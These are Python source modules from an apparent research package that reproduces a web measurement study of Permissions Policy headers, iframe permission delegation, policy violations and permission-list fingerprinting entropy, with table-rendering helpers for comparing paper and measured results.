from repro.analysis.chains import NestedDelegationAnalysis, rebuild_policy_frames
from repro.analysis.delegation import DelegationAnalysis
from repro.analysis.drift import (
    CrawlDiff,
    DriftTimeline,
    StoreMetrics,
    build_timeline,
    diff_stores,
    profile_store,
)
from repro.analysis.index import DatasetIndex, VisitIndex, as_index
from repro.analysis.fingerprinting import fingerprint_surface
from repro.analysis.landing_bias import LandingBiasReport, measure_landing_bias
from repro.analysis.headers import HeaderAnalysis
from repro.analysis.overpermission import OverPermissionAnalysis
from repro.analysis.parties import Party, classify_call_party
from repro.analysis.proposals import (
    evaluate_default_disallow_all,
    local_scheme_attack_surface,
)
from repro.analysis.prompts_analysis import PromptAnalysis
from repro.analysis.ranks import RankBucketAnalysis
from repro.analysis.summary import MeasurementSummary, summarize
from repro.analysis.usage import UsageAnalysis
from repro.analysis.violations import ViolationAnalysis

__all__ = [
    "CrawlDiff",
    "DatasetIndex",
    "DelegationAnalysis",
    "DelegationPurpose",
    "DriftTimeline",
    "HeaderAnalysis",
    "VisitIndex",
    "MeasurementSummary",
    "LandingBiasReport",
    "NestedDelegationAnalysis",
    "PromptAnalysis",
    "RankBucketAnalysis",
    "OverPermissionAnalysis",
    "Party",
    "StoreMetrics",
    "UsageAnalysis",
    "ViolationAnalysis",
    "as_index",
    "build_timeline",
    "classify_call_party",
    "diff_stores",
    "evaluate_default_disallow_all",
    "fingerprint_surface",
    "local_scheme_attack_surface",
    "measure_landing_bias",
    "profile_store",
    "purpose_clusters",
    "rebuild_policy_frames",
    "summarize",
]
