"""Text rendering for tables and paper-vs-measured comparisons.

The benchmark harness prints the same rows/series the paper reports; these
helpers keep the formatting in one place.
"""

from __future__ import annotations

from typing import Iterable, Sequence


def render_table(headers: Sequence[str], rows: Iterable[Sequence[object]],
                 title: str = "",
                 percent_columns: Sequence[int] = ()) -> str:
    """Monospace table with left-aligned first column and right-aligned
    numeric columns.

    Floats render as plain numbers; list a column's index in
    ``percent_columns`` to render its floats as percentages instead.
    """
    percent_set = set(percent_columns)
    materialized = [
        [_cell(value, percent=index in percent_set)
         for index, value in enumerate(row)]
        for row in rows]
    widths = [len(str(header)) for header in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))

    def line(cells: Sequence[str]) -> str:
        parts = []
        for index, cell in enumerate(cells):
            if index == 0:
                parts.append(cell.ljust(widths[index]))
            else:
                parts.append(cell.rjust(widths[index]))
        return "  ".join(parts)

    out = []
    if title:
        out.append(title)
    out.append(line([str(h) for h in headers]))
    out.append("  ".join("-" * width for width in widths))
    out.extend(line(row) for row in materialized)
    return "\n".join(out)


def _cell(value: object, percent: bool = False) -> str:
    """Format one table cell.  Floats are plain numbers unless the caller
    explicitly asks for a percentage — a value like ``0.8`` is ambiguous
    (80 % or 0.8 seconds?), so the column's meaning must come from the
    caller, never be guessed from the value's magnitude."""
    if isinstance(value, float):
        return f"{value:.2%}" if percent else f"{value:,.2f}"
    if isinstance(value, int):
        return f"{value:,}"
    return str(value)


def render_comparison(rows: Iterable[tuple[str, float, float]],
                      title: str = "paper vs measured") -> str:
    """Render (metric, paper, measured) rows with the relative deviation.

    A zero paper baseline has no meaningful relative deviation (the paper
    simply did not observe the metric), so such rows render ``n/a`` in the
    deviation column instead of a division-by-zero artifact.
    """
    table_rows = []
    for metric, paper, measured in rows:
        if paper:
            deviation = f"{(measured - paper) / paper:+.1%}"
        else:
            deviation = "n/a"
        table_rows.append((metric, f"{paper:.2%}", f"{measured:.2%}",
                           deviation))
    return render_table(("metric", "paper", "measured", "dev"),
                        table_rows, title=title)


def render_ranking(title: str, paper_ranking: Sequence[str],
                   measured_ranking: Sequence[str]) -> str:
    """Side-by-side ranking comparison for the top-N tables."""
    length = max(len(paper_ranking), len(measured_ranking))
    rows = []
    for index in range(length):
        paper = paper_ranking[index] if index < len(paper_ranking) else ""
        measured = (measured_ranking[index]
                    if index < len(measured_ranking) else "")
        marker = "=" if paper == measured else " "
        rows.append((str(index + 1), paper, measured, marker))
    return render_table(("#", "paper", "measured", ""), rows, title=title)


def ranking_overlap(paper_ranking: Sequence[str],
                    measured_ranking: Sequence[str]) -> float:
    """Jaccard overlap of two top-N sets — the shape metric for ranked
    tables."""
    paper_set = set(paper_ranking)
    measured_set = set(measured_ranking)
    union = paper_set | measured_set
    if not union:
        return 1.0
    return len(paper_set & measured_set) / len(union)
