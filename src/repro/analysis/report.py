"""Text rendering for tables and paper-vs-measured comparisons.

The benchmark harness prints the same rows/series the paper reports; these
helpers keep the formatting in one place.
"""

from __future__ import annotations

from typing import Iterable, Sequence


def render_table(headers: Sequence[str], rows: Iterable[Sequence[object]],
                 title: str = "") -> str:
    """Monospace table with left-aligned first column and right-aligned
    numeric columns."""
    materialized = [[_cell(value) for value in row] for row in rows]
    widths = [len(str(header)) for header in headers]
    for row in materialized:
        for index, cell in enumerate(row):
            widths[index] = max(widths[index], len(cell))

    def line(cells: Sequence[str]) -> str:
        parts = []
        for index, cell in enumerate(cells):
            if index == 0:
                parts.append(cell.ljust(widths[index]))
            else:
                parts.append(cell.rjust(widths[index]))
        return "  ".join(parts)

    out = []
    if title:
        out.append(title)
    out.append(line([str(h) for h in headers]))
    out.append("  ".join("-" * width for width in widths))
    out.extend(line(row) for row in materialized)
    return "\n".join(out)


def _cell(value: object) -> str:
    if isinstance(value, float):
        return f"{value:.2%}" if 0.0 <= value <= 1.0 else f"{value:,.2f}"
    if isinstance(value, int):
        return f"{value:,}"
    return str(value)


def render_comparison(rows: Iterable[tuple[str, float, float]],
                      title: str = "paper vs measured") -> str:
    """Render (metric, paper, measured) rows with the relative deviation."""
    table_rows = []
    for metric, paper, measured in rows:
        deviation = (measured - paper) / paper if paper else float("nan")
        table_rows.append((metric, f"{paper:.2%}", f"{measured:.2%}",
                           f"{deviation:+.1%}"))
    return render_table(("metric", "paper", "measured", "dev"),
                        table_rows, title=title)


def render_ranking(title: str, paper_ranking: Sequence[str],
                   measured_ranking: Sequence[str]) -> str:
    """Side-by-side ranking comparison for the top-N tables."""
    length = max(len(paper_ranking), len(measured_ranking))
    rows = []
    for index in range(length):
        paper = paper_ranking[index] if index < len(paper_ranking) else ""
        measured = (measured_ranking[index]
                    if index < len(measured_ranking) else "")
        marker = "=" if paper == measured else " "
        rows.append((str(index + 1), paper, measured, marker))
    return render_table(("#", "paper", "measured", ""), rows, title=title)


def ranking_overlap(paper_ranking: Sequence[str],
                    measured_ranking: Sequence[str]) -> float:
    """Jaccard overlap of two top-N sets — the shape metric for ranked
    tables."""
    paper_set = set(paper_ranking)
    measured_set = set(measured_ranking)
    union = paper_set | measured_set
    if not union:
        return 1.0
    return len(paper_set & measured_set) / len(union)
