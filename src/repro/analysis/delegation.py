"""Permission delegation analysis (paper Section 4.2, Tables 3, 7, 8).

Consumes frame records: which sites are embedded where (Table 3), which are
embedded *with delegated permissions* (Table 7), which permissions get
delegated how often (Table 8), and how the delegation directives are
written (the Section 4.2.2 default-src/star/none distribution).

Like the paper, only directly inserted embedded documents count
(``depth == 1``), and "external" means loaded over the network from a site
different from the top level.
"""

from __future__ import annotations

from collections import Counter, defaultdict
from dataclasses import dataclass
from typing import Iterable, Union

from repro.analysis.index import DatasetIndex, VisitIndex, as_index
from repro.crawler.records import SiteVisit
from repro.policy.allow_attr import DelegationDirectiveKind


@dataclass(frozen=True)
class EmbeddedSiteRow:
    """One row of Table 3 / Table 7."""

    site: str
    websites: int


@dataclass(frozen=True)
class DelegatedPermissionRow:
    """One row of Table 8."""

    permission: str
    delegations: int
    websites: int


class DelegationAnalysis:
    """Aggregates embedding and delegation across a crawl."""

    def __init__(self,
                 visits: "Union[DatasetIndex, Iterable[SiteVisit]]") -> None:
        self._index = as_index(visits)

        #: site -> number of websites embedding it at least once (Table 3)
        self.embedded_site_websites: Counter[str] = Counter()
        #: site -> number of websites embedding it with delegation (Table 7)
        self.delegated_site_websites: Counter[str] = Counter()
        #: site -> (occurrences, occurrences with delegation)
        self.site_occurrences: dict[str, list[int]] = defaultdict(lambda: [0, 0])
        #: permission -> [delegation entries, websites] (Table 8)
        self._permission_delegations: Counter[str] = Counter()
        self._permission_websites: Counter[str] = Counter()
        self.directive_kinds: Counter[DelegationDirectiveKind] = Counter()

        self.sites_delegating = 0
        self.sites_delegating_external = 0
        self.sites_delegating_third_party = 0
        self.sites_with_external_embeds = 0

        # A streaming index feeds _aggregate_visit per visit instead.
        if not self._index.streaming:
            self._run()

    @property
    def _visits(self) -> list:
        return self._index.visits

    @property
    def top_level_documents(self) -> int:
        return self._index.top_level_documents

    @property
    def website_count(self) -> int:
        return self._index.website_count

    # -- aggregation -----------------------------------------------------------------

    def _run(self) -> None:
        for vi in self._index.visit_indexes:
            self._aggregate_visit(vi)

    def _aggregate_visit(self, vi: VisitIndex) -> None:
        top_site = vi.top.site
        seen_sites: set[str] = set()
        seen_delegated_sites: set[str] = set()
        seen_permissions: set[str] = set()
        delegates_any = False
        delegates_external = False
        delegates_third_party = False

        for frame in vi.direct_embedded:
            is_external = not frame.is_local and bool(frame.site)
            is_cross_site = is_external and frame.site != top_site
            if is_cross_site:
                seen_sites.add(frame.site)
                self.site_occurrences[frame.site][0] += 1

            attribute = vi.allow_by_frame.get(frame.frame_id)
            if attribute is None:
                continue
            delegated = attribute.delegated_features
            for entry in attribute.entries.values():
                self.directive_kinds[entry.kind] += 1
            if not delegated:
                continue
            delegates_any = True
            if is_external and frame.site != top_site:
                delegates_third_party = True
            if is_cross_site:
                delegates_external = True
                seen_delegated_sites.add(frame.site)
                self.site_occurrences[frame.site][1] += 1
                for permission in delegated:
                    self._permission_delegations[permission] += 1
                    seen_permissions.add(permission)

        for site in seen_sites:
            self.embedded_site_websites[site] += 1
        for site in seen_delegated_sites:
            self.delegated_site_websites[site] += 1
        for permission in seen_permissions:
            self._permission_websites[permission] += 1
        if seen_sites:
            self.sites_with_external_embeds += 1
        if delegates_any:
            self.sites_delegating += 1
        if delegates_external:
            self.sites_delegating_external += 1
        if delegates_third_party:
            self.sites_delegating_third_party += 1

    # -- process-parallel summarize support --------------------------------------

    _PARTIAL_INTS = ("sites_delegating", "sites_delegating_external",
                     "sites_delegating_third_party",
                     "sites_with_external_embeds")

    def _partial_state(self) -> dict:
        """Picklable additive state for one aggregated rank span.  Plain
        dicts, not the live defaultdicts: ``site_occurrences``' lambda
        default factory does not pickle."""
        return {
            "embedded_site_websites": dict(self.embedded_site_websites),
            "delegated_site_websites": dict(self.delegated_site_websites),
            "site_occurrences": {site: list(pair) for site, pair
                                 in self.site_occurrences.items()},
            "permission_delegations": dict(self._permission_delegations),
            "permission_websites": dict(self._permission_websites),
            "directive_kinds": dict(self.directive_kinds),
            "ints": {name: getattr(self, name)
                     for name in self._PARTIAL_INTS},
        }

    def _merge_partial(self, state: dict) -> None:
        """Fold one rank span's partial in (spans in rank order, so
        Counter insertion order — and most_common tie-breaks — match a
        serial pass)."""
        for site, count in state["embedded_site_websites"].items():
            self.embedded_site_websites[site] += count
        for site, count in state["delegated_site_websites"].items():
            self.delegated_site_websites[site] += count
        for site, (occurrences, delegated) in \
                state["site_occurrences"].items():
            pair = self.site_occurrences[site]
            pair[0] += occurrences
            pair[1] += delegated
        for permission, count in state["permission_delegations"].items():
            self._permission_delegations[permission] += count
        for permission, count in state["permission_websites"].items():
            self._permission_websites[permission] += count
        for kind, count in state["directive_kinds"].items():
            self.directive_kinds[kind] += count
        for name, value in state["ints"].items():
            setattr(self, name, getattr(self, name) + value)

    # -- shares --------------------------------------------------------------------------

    def _share(self, count: int) -> float:
        # Paper convention (Section 4): website counts divided by the
        # top-level *document* total, redirect hops included.
        return (count / self.top_level_documents
                if self.top_level_documents else 0.0)

    @property
    def share_sites_delegating(self) -> float:
        """The paper's 12.07 %."""
        return self._share(self.sites_delegating)

    @property
    def share_sites_delegating_external(self) -> float:
        """The paper's 10.8 %."""
        return self._share(self.sites_delegating_external)

    def directive_distribution(self) -> dict[DelegationDirectiveKind, float]:
        """Directive kind shares over all delegation entries (Section 4.2.2:
        82.12 % default-src, 17.17 % star, …)."""
        total = sum(self.directive_kinds.values())
        if not total:
            return {}
        return {kind: count / total
                for kind, count in self.directive_kinds.items()}

    def delegation_rate_for_site(self, site: str) -> float:
        """Share of a widget's iframe occurrences that carry delegation —
        4.95 % for google.com vs 99.69 % for livechatinc.com in the paper."""
        occurrences, delegated = self.site_occurrences.get(site, [0, 0])
        return delegated / occurrences if occurrences else 0.0

    # -- tables ------------------------------------------------------------------------------

    def embedded_site_ranking(self, top_n: int = 10) -> list[EmbeddedSiteRow]:
        """Table 3: top external embedded document sites."""
        return [EmbeddedSiteRow(site, count)
                for site, count in self.embedded_site_websites.most_common(top_n)]

    def delegated_site_ranking(self, top_n: int = 10) -> list[EmbeddedSiteRow]:
        """Table 7: top external embedded documents with delegation."""
        return [EmbeddedSiteRow(site, count)
                for site, count
                in self.delegated_site_websites.most_common(top_n)]

    def delegated_permission_table(self, top_n: int = 10
                                   ) -> list[DelegatedPermissionRow]:
        """Table 8: top delegated permissions, ranked by websites."""
        rows = [DelegatedPermissionRow(permission,
                                       self._permission_delegations[permission],
                                       websites)
                for permission, websites in self._permission_websites.items()]
        rows.sort(key=lambda row: row.websites, reverse=True)
        return rows[:top_n]

    def total_external_delegations(self) -> int:
        return sum(self._permission_delegations.values())

    def sites_present_on_at_least(self, threshold: int) -> int:
        """How many embedded sites appear with delegation on ≥ ``threshold``
        websites (the paper: 34 sites ≥100, 13 sites ≥1000)."""
        return sum(1 for count in self.delegated_site_websites.values()
                   if count >= threshold)
