"""Permission-list fingerprinting surface (paper Section 4.1.1).

The paper observes massive third-party retrieval of the full
allowed-permission list and notes — as a first, to its knowledge — that
such lists "enable fingerprinting by revealing differences in permission
support across browsers and even across versions of the same browser".

This module quantifies that hypothesis against the support matrix: for
every browser release, the set of policy-controlled permissions a default
document would report via ``document.featurePolicy.features()`` follows
from the release's supported feature set.  We compute

* the distinct feature-set classes across releases (how many "looks" the
  permission list has),
* which release pairs the list distinguishes,
* the entropy of the signal under a release-popularity prior.
"""

from __future__ import annotations

import math
from collections import Counter, defaultdict
from dataclasses import dataclass, field

from repro.registry.browsers import BrowserRelease
from repro.registry.support import SupportMatrix, default_support_matrix


@dataclass(frozen=True)
class FingerprintClass:
    """One equivalence class of releases sharing a permission list."""

    features: frozenset[str]
    releases: tuple[BrowserRelease, ...]


@dataclass
class FingerprintReport:
    """The fingerprinting-surface summary."""

    classes: list[FingerprintClass]
    total_releases: int
    entropy_bits: float
    max_entropy_bits: float

    @property
    def distinct_lists(self) -> int:
        """How many different permission lists exist across releases."""
        return len(self.classes)

    def distinguishable_pairs(self) -> int:
        """Release pairs the permission list tells apart."""
        sizes = [len(cls.releases) for cls in self.classes]
        total_pairs = self.total_releases * (self.total_releases - 1) // 2
        same_pairs = sum(size * (size - 1) // 2 for size in sizes)
        return total_pairs - same_pairs

    def distinguishability(self) -> float:
        """Share of release pairs the list distinguishes."""
        total_pairs = self.total_releases * (self.total_releases - 1) // 2
        if not total_pairs:
            return 0.0
        return self.distinguishable_pairs() / total_pairs


def feature_list_for(matrix: SupportMatrix,
                     release: BrowserRelease) -> frozenset[str]:
    """The policy-controlled permission list a default top-level document
    on this release would expose."""
    return frozenset(
        perm.name for perm in matrix.registry.policy_controlled()
        if matrix.supported(perm.name, release.browser, release.major_version)
    )


def fingerprint_surface(matrix: SupportMatrix | None = None,
                        weights: dict[BrowserRelease, float] | None = None
                        ) -> FingerprintReport:
    """Compute the fingerprinting surface over all known releases.

    Args:
        matrix: Support matrix; the default registry/timeline if omitted.
        weights: Optional release-popularity prior for the entropy; uniform
            when omitted.
    """
    matrix = matrix if matrix is not None else default_support_matrix()
    releases = matrix.releases
    by_features: dict[frozenset[str], list[BrowserRelease]] = defaultdict(list)
    for release in releases:
        by_features[feature_list_for(matrix, release)].append(release)

    classes = [FingerprintClass(features, tuple(members))
               for features, members in by_features.items()]
    classes.sort(key=lambda cls: -len(cls.releases))

    if weights is None:
        weights = {release: 1.0 for release in releases}
    total_weight = sum(weights.get(release, 0.0) for release in releases)
    entropy = 0.0
    for cls in classes:
        mass = sum(weights.get(release, 0.0) for release in cls.releases)
        if mass <= 0 or total_weight <= 0:
            continue
        probability = mass / total_weight
        entropy -= probability * math.log2(probability)
    max_entropy = math.log2(len(releases)) if releases else 0.0
    return FingerprintReport(classes=classes, total_releases=len(releases),
                             entropy_bits=entropy,
                             max_entropy_bits=max_entropy)


def distinguishing_features(matrix: SupportMatrix,
                            a: BrowserRelease, b: BrowserRelease
                            ) -> frozenset[str]:
    """The permissions whose presence differs between two releases — what a
    fingerprinting script would actually probe."""
    return feature_list_for(matrix, a) ^ feature_list_for(matrix, b)
