"""Policy-violation analysis: who gets blocked, and by whom.

Every recorded call carries the policy verdict (the instrumentation wraps
the real function, so denials are observed like successes).  Blocked calls
split into two stories:

* **Self-inflicted breakage** — a top-level document's own functionality
  calls a permission API that the site's *own header* disables.  The paper
  shows headers are mostly copy-pasted disable templates (Section 4.3.1);
  this measures how often the template bites the deployer.
* **Missing delegation** — an embedded document calls an API the embedder
  never delegated (the default-`self` wall).  The flip side of the
  over-permission analysis: under-permissioned widgets that silently lose
  functionality.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Iterable

from repro.crawler.records import SiteVisit
from repro.policy.header import HeaderParseError, parse_permissions_policy_header
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry


@dataclass
class ViolationReport:
    """Aggregated blocked-call statistics for one crawl."""

    sites_with_blocked_calls: int = 0
    sites_with_self_inflicted: int = 0
    sites_with_missing_delegation: int = 0
    blocked_permissions: Counter = field(default_factory=Counter)
    self_inflicted_permissions: Counter = field(default_factory=Counter)
    missing_delegation_sites: Counter = field(default_factory=Counter)

    def top_blocked(self, top_n: int = 10) -> list[tuple[str, int]]:
        return self.blocked_permissions.most_common(top_n)


class ViolationAnalysis:
    """Classifies every ``allowed=False`` call in a crawl."""

    def __init__(self, visits: Iterable[SiteVisit],
                 registry: PermissionRegistry | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self.report = ViolationReport()
        for visit in visits:
            if visit.success:
                self._aggregate(visit)

    def _aggregate(self, visit: SiteVisit) -> None:
        top = visit.top_frame
        own_disabled = self._own_disabled_features(visit)
        frames = {frame.frame_id: frame for frame in visit.frames}
        any_blocked = False
        self_inflicted = False
        missing_delegation = False
        for call in visit.calls:
            if call.allowed:
                continue
            permissions = [p for p in call.permissions
                           if p in self._registry]
            if not permissions:
                continue
            any_blocked = True
            frame = frames[call.frame_id]
            for permission in permissions:
                self.report.blocked_permissions[permission] += 1
                if frame.is_top_level and permission in own_disabled:
                    self_inflicted = True
                    self.report.self_inflicted_permissions[permission] += 1
                elif not frame.is_top_level and frame.site \
                        and frame.site != top.site:
                    missing_delegation = True
                    self.report.missing_delegation_sites[frame.site] += 1
        if any_blocked:
            self.report.sites_with_blocked_calls += 1
        if self_inflicted:
            self.report.sites_with_self_inflicted += 1
        if missing_delegation:
            self.report.sites_with_missing_delegation += 1

    def _own_disabled_features(self, visit: SiteVisit) -> frozenset[str]:
        raw = visit.top_frame.header("permissions-policy")
        if raw is None:
            return frozenset()
        try:
            parsed = parse_permissions_policy_header(raw)
        except HeaderParseError:
            return frozenset()
        return frozenset(feature
                         for feature, allowlist in parsed.directives.items()
                         if allowlist.is_empty)
