"""Shared one-pass dataset index for the analysis pipeline.

Before this module existed every analysis made its own full pass over the
visits and re-did the same work: re-parsing each frame's ``allow``
attribute (delegation, over-permission, ranks, categories, chains),
re-linting each ``Permissions-Policy`` header (headers, proposals,
chains), re-matching each script source against the permission registry
(usage, over-permission), and re-classifying each call's party.  On a real
crawl those raw strings are massively duplicated — thousands of frames
share a handful of distinct attribute and header templates — so the
pipeline spent most of its time recomputing known answers.

:class:`DatasetIndex` walks the dataset **once** and precomputes, per
successful visit, a :class:`VisitIndex` with everything the analyses
consume:

* frame lookups (``frames_by_id``, the top-level frame, the directly
  embedded ``depth == 1`` frames),
* parsed ``allow`` attributes per frame (via the interned
  :func:`~repro.policy.allow_attr.parse_allow_attribute`),
* the first-occurrence-per-frame invocation/check dedup tables that
  Table 4/5 counting is built on,
* static script matches and general-API hits per frame.

It also memoizes the registry-dependent helpers (header linting, origin
parsing, static matching, party classification) in per-index tables that
are warmed during construction, so analyses sharing one index — including
the thread fan-out in :func:`repro.analysis.summary.summarize` — only ever
*read* afterwards.  Parse errors are captured once: a header that fails to
parse is linted exactly once and every consumer sees the same
``header_dropped`` report.

The per-analysis aggregation loops are deliberately kept structurally
identical to the pre-index implementations (preserved verbatim in
:mod:`repro.analysis.legacy`), so every derived count and floating-point
share is bit-identical — ``tests/test_analysis_index.py`` enforces this
differentially.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Union

from repro.analysis.parties import Party, script_party
from repro.browser.api import ApiKind
from repro.crawler.records import FrameRecord, SiteVisit
from repro.obs import metrics as _metrics
from repro.obs.tracing import TRACER
from repro.policy.allow_attr import AllowAttribute, parse_allow_attribute
from repro.policy.linter import HeaderLinter, LintReport
from repro.policy.origin import Origin, OriginParseError
from repro.registry.features import (
    DEFAULT_REGISTRY,
    GENERAL_PERMISSION_APIS,
    PermissionRegistry,
)

#: Pseudo-permission rows the paper's tables use.
GENERAL_ROW = "General Permission APIs"
ALL_PERMISSIONS_ROW = "All Permissions"

_GENERAL_KIND = ApiKind.GENERAL.value
_STATUS_CHECK_KIND = ApiKind.STATUS_CHECK.value


def _add(table: dict[tuple[int, str], set], key: tuple[int, str],
         party: Party) -> None:
    entry = table.get(key)
    if entry is None:
        table[key] = entry = set()
    entry.add(party)


def static_matches(source: str, registry: PermissionRegistry
                   ) -> tuple[frozenset[str], bool]:
    """Permissions whose API patterns occur in ``source``, plus whether any
    general permission API occurs.  This is the paper's plain
    string-matching static analysis — deliberately blind to obfuscation."""
    permissions = frozenset(p.name for p in registry.match_api(source))
    general = any(api in source for api in GENERAL_PERMISSION_APIS)
    return permissions, general


@dataclass
class VisitIndex:
    """Precomputed per-visit structures shared by every analysis.

    All fields are built in one pass over the visit's frames, calls and
    scripts and must be treated as read-only afterwards.
    """

    visit: SiteVisit
    frames_by_id: dict[int, FrameRecord]
    #: First top-level frame, ``None`` when the visit has none.
    top_frame: FrameRecord | None
    #: Directly inserted embedded documents (``depth == 1``), in order.
    direct_embedded: tuple[FrameRecord, ...]
    #: frame id -> parsed ``allow`` attribute, for frames whose raw
    #: attribute is non-empty (parse results are interned, so entries for
    #: identical raw strings are the same object).
    allow_by_frame: dict[int, AllowAttribute]
    #: (frame id, table row) -> parties observed, first occurrence per
    #: frame (the paper's dedup for Table 4).  Insertion-ordered.
    invoked: dict[tuple[int, str], set[Party]] = field(default_factory=dict)
    #: Same dedup for status checks (Table 5).
    checked: dict[tuple[int, str], set[Party]] = field(default_factory=dict)
    #: Whether any call used the deprecated ``featurePolicy`` API.
    any_general_deprecated: bool = False
    #: frame id -> statically matched permissions over all of the frame's
    #: scripts (Table 6).
    static_by_frame: dict[int, frozenset[str]] = field(default_factory=dict)
    #: frame id -> whether any script matched a general permission API.
    general_by_frame: dict[int, bool] = field(default_factory=dict)

    @property
    def top(self) -> FrameRecord:
        """The top-level frame; raises like ``SiteVisit.top_frame``."""
        if self.top_frame is None:
            raise ValueError("visit has no top-level frame")
        return self.top_frame


class DatasetIndex:
    """One-pass index over a crawl's successful visits.

    Args:
        source: A :class:`~repro.crawler.pool.CrawlDataset` (anything with a
            ``successful()`` method) or a plain iterable of
            :class:`~repro.crawler.records.SiteVisit`.
        registry: Permission registry the memoized helpers use; defaults to
            :data:`~repro.registry.features.DEFAULT_REGISTRY`.
    """

    #: Whether this index streams visits instead of materializing them.
    #: Analyses consult this to decide whether to run their aggregation
    #: loop at construction time (see :class:`IncrementalIndex`).
    streaming = False

    def __init__(self, source: "Union[Iterable[SiteVisit], object]", *,
                 registry: PermissionRegistry | None = None) -> None:
        self._init_memos(registry)

        if hasattr(source, "successful"):
            visits = list(source.successful())
        else:
            visits = [visit for visit in source if visit.success]
        self.visits: list[SiteVisit] = visits
        self.top_level_documents = sum(v.top_level_document_count
                                       for v in visits)
        self.website_count = len(visits)
        with TRACER.span("analysis.index", visits=len(visits)):
            self.visit_indexes: list[VisitIndex] = [
                self._index_visit(visit) for visit in visits]
        if _metrics.COUNTING:
            registry = _metrics.REGISTRY
            for table, memo in (("lint", self._lint_memo),
                                ("origin", self._origin_memo),
                                ("static", self._static_memo),
                                ("party", self._party_memo)):
                registry.gauge(f"index.memo_size.{table}").set(len(memo))

    def _init_memos(self, registry: PermissionRegistry | None) -> None:
        self.registry = registry if registry is not None else DEFAULT_REGISTRY
        self._linter = HeaderLinter(self.registry)
        self._lint_memo: dict[str, LintReport] = {}
        self._origin_memo: dict[str, Origin | None] = {}
        self._static_memo: dict[str, tuple[frozenset[str], bool]] = {}
        self._party_memo: dict[tuple[str | None, str], Party] = {}

    # -- memoized helpers (warmed during construction; read-only after) ------------

    def lint(self, raw: str) -> LintReport:
        """Lint a ``Permissions-Policy`` header value, once per raw string.

        Parse failures are captured in the report (``header_dropped``), so
        a bad header is diagnosed exactly once for the whole dataset."""
        report = self._lint_memo.get(raw)
        if report is None:
            report = self._linter.lint(raw)
            self._lint_memo[raw] = report
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("index.memo_misses.lint").inc()
        elif _metrics.COUNTING:
            _metrics.REGISTRY.counter("index.memo_hits.lint").inc()
        return report

    def origin(self, url: str) -> Origin | None:
        """Parse a URL's origin; ``None`` for unparseable URLs."""
        try:
            origin = self._origin_memo[url]
        except KeyError:
            try:
                origin = Origin.parse(url)
            except OriginParseError:
                origin = None
            self._origin_memo[url] = origin
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("index.memo_misses.origin").inc()
            return origin
        if _metrics.COUNTING:
            _metrics.REGISTRY.counter("index.memo_hits.origin").inc()
        return origin

    def static(self, source: str) -> tuple[frozenset[str], bool]:
        """Memoized :func:`static_matches` against this index's registry."""
        result = self._static_memo.get(source)
        if result is None:
            result = static_matches(source, self.registry)
            self._static_memo[source] = result
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("index.memo_misses.static").inc()
        elif _metrics.COUNTING:
            _metrics.REGISTRY.counter("index.memo_hits.static").inc()
        return result

    def party(self, script_url: str | None, frame_site: str) -> Party:
        """Memoized first-/third-party classification."""
        key = (script_url, frame_site)
        try:
            party = self._party_memo[key]
        except KeyError:
            party = script_party(script_url, frame_site)
            self._party_memo[key] = party
            if _metrics.COUNTING:
                _metrics.REGISTRY.counter("index.memo_misses.party").inc()
            return party
        if _metrics.COUNTING:
            _metrics.REGISTRY.counter("index.memo_hits.party").inc()
        return party

    # -- the single pass ------------------------------------------------------------

    def _index_visit(self, visit: SiteVisit) -> VisitIndex:
        # One pass over the frames; attribute access is inlined (no
        # FrameRecord property calls) because this is the hottest loop of
        # the whole analysis phase.
        frames_by_id: dict[int, FrameRecord] = {}
        top_frame = None
        direct_embedded: list[FrameRecord] = []
        allow_by_frame: dict[int, AllowAttribute] = {}
        for frame in visit.frames:
            frames_by_id[frame.frame_id] = frame
            if top_frame is None and frame.parent_id is None:
                top_frame = frame
            if frame.depth == 1:
                direct_embedded.append(frame)
            attrs = frame.iframe_attributes
            if attrs:
                raw = attrs.get("allow")
                if raw:
                    allow_by_frame[frame.frame_id] = parse_allow_attribute(raw)
            # Warm header lint + origin for every non-local document that
            # carries a Permissions-Policy header, so parallel analyses hit
            # warm memo tables only.
            if not frame.is_local:
                pp_raw = frame.headers.get("permissions-policy")
                if pp_raw is not None:
                    self.lint(pp_raw)
                    self.origin(frame.url)

        vi = VisitIndex(
            visit=visit,
            frames_by_id=frames_by_id,
            top_frame=top_frame,
            direct_embedded=tuple(direct_embedded),
            allow_by_frame=allow_by_frame,
        )

        # First occurrence of each permission per frame, exactly as the
        # paper's Table 4/5 counting requires ("this ensures that outliers
        # … do not artificially inflate the results").
        invoked: dict[tuple[int, str], set[Party]] = {}
        checked: dict[tuple[int, str], set[Party]] = {}
        party_memo = self._party_memo
        general_kind = _GENERAL_KIND
        status_kind = _STATUS_CHECK_KIND
        # Hoisted once per visit so the per-call cost when observability is
        # off stays a local-variable branch.
        counting = _metrics.COUNTING
        party_hits = party_misses = 0
        for call in visit.calls:
            frame = frames_by_id[call.frame_id]
            key = (call.script_url, frame.site)
            party = party_memo.get(key)
            if party is None:
                party = script_party(call.script_url, frame.site)
                party_memo[key] = party
                if counting:
                    party_misses += 1
            elif counting:
                party_hits += 1
            if "featurePolicy" in call.api:
                vi.any_general_deprecated = True
            kind = call.kind
            if kind == general_kind:
                _add(invoked, (call.frame_id, GENERAL_ROW), party)
                _add(checked, (call.frame_id, ALL_PERMISSIONS_ROW), party)
            elif kind == status_kind:
                _add(invoked, (call.frame_id, GENERAL_ROW), party)
                for permission in call.permissions:
                    _add(checked, (call.frame_id, permission), party)
            else:
                for permission in call.permissions:
                    _add(invoked, (call.frame_id, permission), party)
        vi.invoked = invoked
        vi.checked = checked
        if counting and (party_hits or party_misses):
            registry = _metrics.REGISTRY
            registry.counter("index.memo_hits.party").inc(party_hits)
            registry.counter("index.memo_misses.party").inc(party_misses)

        static_by_frame: dict[int, frozenset[str]] = {}
        general_by_frame: dict[int, bool] = {}
        for script in visit.scripts:
            permissions, general = self.static(script.source)
            previous = static_by_frame.get(script.frame_id, frozenset())
            static_by_frame[script.frame_id] = previous | permissions
            general_by_frame[script.frame_id] = (
                general_by_frame.get(script.frame_id, False) or general)
        vi.static_by_frame = static_by_frame
        vi.general_by_frame = general_by_frame
        return vi


